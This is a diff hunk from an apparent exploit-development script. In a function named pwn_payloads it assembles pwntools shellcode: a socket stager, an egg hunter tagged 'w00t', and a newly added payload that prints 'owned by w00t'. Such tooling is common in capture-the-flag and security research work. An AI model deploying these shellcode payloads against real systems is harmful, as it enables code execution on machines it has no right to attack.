@@ -195,6 +195,7 @@ def pwn_payloads(arch):
     # it; an egg hunter asks the kernel about one page after another.
     p["stager"] = asm(shellcraft.stager(4, 0x1000))
     p["egghunter"] = asm(shellcraft.egghunter(b"w00t"))
+    p["echo"] = asm(shellcraft.echo("owned by w00t\n", 1))
     return p
 
 
